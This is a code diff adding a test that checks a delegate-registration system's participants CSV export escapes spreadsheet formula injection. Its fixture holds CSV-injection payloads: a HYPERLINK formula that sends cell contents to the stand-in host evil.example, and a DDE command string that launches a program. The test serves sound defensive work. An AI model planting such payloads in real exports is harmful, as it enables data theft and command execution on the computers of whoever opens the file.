@@ -114,6 +114,28 @@ def test_participants_csv_lists_member_states_alphabetically_then_observers_head
     ]
 
 
+def test_participants_csv_escapes_the_formulas_delegates_type(client, secretariat_user, submitted):
+    services.registration_approve(registration=submitted["MEX"], by=secretariat_user)
+    submitted["MEX"].members.filter(is_head=False).update(
+        given_name='=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        family_name="+cmd|' /C calc'!A0",
+        function="@SUM(1+1)",
+        email="-2+3@example.org",
+    )
+    client.force_login(secretariat_user)
+    response = client.post(
+        reverse(CHANGELIST), {"action": "participants_csv", "_selected_action": [submitted["MEX"].pk]}
+    )
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    adviser = rows[2]
+    assert (adviser[4], adviser[5], adviser[6], adviser[8]) == (
+        '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        "'+cmd|' /C calc'!A0",
+        "'@SUM(1+1)",
+        "'-2+3@example.org",
+    )
+
+
 def test_participants_list_leaves_out_registrations_not_approved(client, secretariat_user, submitted):
     from pypdf import PdfReader
 
